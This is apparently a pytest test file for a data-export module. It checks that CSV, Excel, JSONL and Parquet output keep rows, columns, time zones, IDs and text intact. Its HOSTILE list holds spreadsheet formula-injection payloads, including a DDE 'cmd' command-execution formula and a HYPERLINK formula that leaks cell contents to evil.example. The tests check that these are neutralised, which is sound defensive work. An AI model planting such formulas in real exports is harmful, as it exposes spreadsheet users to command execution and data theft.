"""What every export format obeys, and what CSV does against cells that are programs."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pyarrow.parquet as pq
import pytest
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from grapevine.core import cells
from grapevine.listen import formats
from grapevine.listen.formats import FORMATS, parquet
from grapevine.listen.formats.base import Column
from grapevine.listen.formats.columns import COLUMNS

STOCKHOLM = ZoneInfo("Europe/Stockholm")
NOON = datetime(2026, 7, 1, 12, 0, tzinfo=UTC)
VALUES = {
    "id": 2149615869481713665,
    "key": "18423",
    "text": "Smörgås, “quoted”\nand; a second line 🎉",
    "moment": NOON,
    "integer": 3,
    "number": 2.5,
    "words": ["kaffe", "te"],
    "counts": {"likes": 3},
}
HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=cmd|"/C calc"!A0',
    "  =1+1",
    "\u200b=1",
    "\ufeff=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "\x00=1",
    '=HYPERLINK("https://evil.example?"&A1)',
]


def row(**values):
    return {**{one.name: VALUES[one.kind] for one in COLUMNS}, **values}


def encoded(name, chunks, columns=COLUMNS):
    return b"".join(FORMATS[name].encode(columns, iter(chunks), STOCKHOLM))


def read(name, data):
    """The cells of a written CSV, as a program that knows its dialect reads them, by the columns' names."""
    text = data.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";" if name == "excel-comma" else ",")
    named = {one.shown: one.name for one in COLUMNS}
    head = [named.get(one, one) for one in next(rows)]
    return [dict(zip(head, row, strict=True)) for row in rows]


CSVS = [name for name in FORMATS if FORMATS[name].suffix == "csv"]


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_writes_all_rows_and_columns_in_their_order(name):
    data = encoded(name, [[row(), row()], [row()]])
    if name in CSVS:
        rows = read(name, data)
        separator = ";" if name == "excel-comma" else ","
        names = data.decode("utf-8-sig").split("\r\n")[0].split(separator)
    elif name == "jsonl":
        rows = [json.loads(line) for line in data.splitlines()]
        names = list(rows[0])
    else:
        table = pq.read_table(io.BytesIO(data))
        rows, names = table.to_pylist(), table.column_names
    assert len(rows) == 3
    told = [one for one in COLUMNS if one.kind != "counts" or name not in CSVS]
    assert names == [one.shown if name.startswith("excel") else one.name for one in told]


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_writes_nothing_known_as_nothing(name):
    nothing = dict.fromkeys(row())
    data = encoded(name, [[nothing]])
    if name in CSVS:
        assert set(read(name, data)[0].values()) == {""}
    elif name == "jsonl":
        assert set(json.loads(data).values()) == {None}
    else:
        assert set(pq.read_table(io.BytesIO(data)).to_pylist()[0].values()) == {None}


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_can_be_empty(name):
    data = encoded(name, [])
    if name == "parquet":
        assert pq.read_table(io.BytesIO(data)).num_rows == 0
    elif name == "jsonl":
        assert data == b""
    else:
        assert read(name, data) == []
        assert (b"published_at" if name == "csv" else b"Published") in data


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_bears_half_a_letter(name):
    data = encoded(name, [[row(text="half \ud83d letter", tags=["\udfff"], metrics={"\udfff": 1})]])
    assert b"half" in data or name == "parquet"


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_hands_out_a_chunk_before_it_asks_for_the_next(name):
    asked = []

    def chunks():
        for number in range(3):
            asked.append(number)
            yield [row(text=f"{number} " * 500)]

    pieces = FORMATS[name].encode(COLUMNS, chunks(), STOCKHOLM)
    first = next(pieces)
    if len(first) < 600:  # a header
        next(pieces)
    assert asked == [0]


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("name", CSVS)
def test_no_cell_of_a_csv_is_a_formula(name, hostile):
    data = encoded(name, [[row(text=hostile, title=hostile, author=hostile, tags=[hostile], url=hostile)]])
    written = read(name, data)[0]
    for column in ("text", "title", "author", "tags", "url"):
        assert written[column].startswith("'"), written[column]


@given(st.text())
def test_an_id_comes_back_as_it_was_and_is_no_formula(text):
    made = cells.key(text)
    assert cells.key_of(made) == text
    assert made[:1] not in "=+-@\t\r\n" or not made


@pytest.mark.parametrize("id", ["-5", "'tis", "=x", "@hamlet", "0042", "2149615869481713665", "tag:x,2026:1"])
@pytest.mark.parametrize("name", CSVS)
def test_ids_survive_a_csv(name, id):
    written = read(name, encoded(name, [[row(external_id=id, reply_to=id)]]))[0]
    assert (cells.key_of(written["external_id"]), cells.key_of(written["reply_to"])) == (id, id)


@pytest.mark.parametrize(
    ("id", "written"),
    [
        ("made-eb7291", "made-eb7291"),
        ("18423", "18423"),
        ("123456789012345", "123456789012345"),
        ("1234567890123456", "'1234567890123456"),
        ("0042", "'0042"),
        ("12e5", "'12e5"),
        ("-5", "'-5"),
    ],
)
@pytest.mark.parametrize("name", ["excel-point", "excel-comma"])
def test_only_ids_that_excel_would_spoil_are_marked(name, id, written):
    found = read(name, encoded(name, [[row(external_id=id, author=id)]]))[0]
    assert (found["external_id"], found["author"]) == (written, written)


@pytest.mark.parametrize("language", ["en", "sv", "da", "nl"])
def test_headings_for_people_are_in_their_language_and_none_stands_twice(language):
    with translation.override(language):
        pieces = FORMATS["excel-comma"].encode(COLUMNS, iter([[row()]]), STOCKHOLM)
    head = next(pieces).decode("utf-8-sig").splitlines()[0].split(";")  # read when the request is over
    assert len(set(head)) == len(head)
    assert ("Published" in head) is (language == "en")
    assert not any(one.kind != "counts" and one.heading == "" for one in COLUMNS)


def test_counts_have_columns_of_their_own_in_a_table():
    written = read("csv", encoded("csv", [[row(likes=4, rating=5)]]))[0]
    assert (written["likes"], written["rating"]) == ("4", "5")
    assert "metrics" not in written
    assert json.loads(encoded("jsonl", [[row()]]))["metrics"] == {"likes": 3}


@given(st.text())
def test_a_harmless_text_begins_with_nothing_a_spreadsheet_would_run(text):
    made = cells.harmless(text)
    assert made[:1] not in "=+-@\t\r\n" or not made
    assert (
        made.lstrip("'") == text.lstrip("'")
        or any(ord(one) < 32 for one in text)
        or made == cells.MARK + text
    )


@pytest.mark.parametrize("text", ["a=b", "kaffe - te", "1", "", "ø", "'quoted'", "3 > 2"])
def test_a_text_that_is_no_formula_stays_as_it_is(text):
    assert cells.harmless(text) == text


@pytest.mark.parametrize("name", ["jsonl", "parquet"])
def test_formats_for_programs_keep_texts_as_they_came(name):
    data = encoded(name, [[row(text="=1+1")]])
    text = (
        json.loads(data)["text"]
        if name == "jsonl"
        else pq.read_table(io.BytesIO(data)).to_pylist()[0]["text"]
    )
    assert text == "=1+1"


def test_excel_gets_a_mark_that_says_utf_8_and_no_sep_line():
    for name in ("excel-point", "excel-comma"):
        data = encoded(name, [[row()]])
        assert data.startswith(b"\xef\xbb\xbfPost number")
    assert not encoded("csv", [[row()]]).startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(("language", "name"), [("sv", "excel-comma"), ("da", "excel-comma"), ("nl", "excel-comma"), ("en", "excel-point"), ("en-gb", "excel-point")])  # fmt: skip
def test_the_spreadsheets_dialect_follows_the_language(language, name):
    assert formats.excel_for(language).name == name


def test_decimal_signs_follow_the_dialect():
    columns = (Column("share", "number", "A share."),)
    chunk = [[{"share": 2.5}]]
    assert encoded("excel-comma", chunk, columns).endswith(b"2,5\r\n")
    assert encoded("excel-point", chunk, columns).endswith(b"2.5\r\n")
    assert encoded("csv", chunk, columns).endswith(b"2.5\r\n")


def test_excel_gets_the_readers_time_and_programs_get_utc():
    assert read("excel-comma", encoded("excel-comma", [[row()]]))[0]["published_at"] == "2026-07-01 14:00:00"
    assert read("csv", encoded("csv", [[row()]]))[0]["published_at"] == "2026-07-01T12:00:00Z"
    assert json.loads(encoded("jsonl", [[row()]]))["published_at"] == "2026-07-01T12:00:00Z"


def test_long_ids_survive_excel_and_readers_of_json():
    assert read("excel-point", encoded("excel-point", [[row()]]))[0]["id"] == "'2149615869481713665"
    assert json.loads(encoded("jsonl", [[row()]]))["id"] == "2149615869481713665"


def test_a_text_longer_than_a_cell_is_cut_for_excel_alone():
    long = "🎉" * 40_000
    cut = read("excel-point", encoded("excel-point", [[row(text=long)]]))[0]["text"]
    assert len(cut.encode("utf-16-le")) // 2 <= 32_767
    assert cut.endswith("…")
    before = csv.field_size_limit(1_000_000)
    try:
        assert read("csv", encoded("csv", [[row(text=long)]]))[0]["text"] == long
    finally:
        csv.field_size_limit(before)


def test_parquet_has_types_and_says_what_the_columns_mean():
    file = pq.ParquetFile(io.BytesIO(encoded("parquet", [[row()], [row()]])))
    schema = file.schema_arrow
    assert file.num_row_groups == 2
    assert str(schema.field("published_at").type) == "timestamp[us, tz=UTC]"
    assert str(schema.field("likes").type) == "int64"
    assert schema.field("text").metadata[b"meaning"] == b"The text as it was published."


def test_parquet_holds_no_more_than_a_chunk():
    drain = parquet._Drain()
    drain.write(b"abc")
    assert drain.take() == b"abc"
    assert drain.take() == b""
    assert drain.tell() == 3
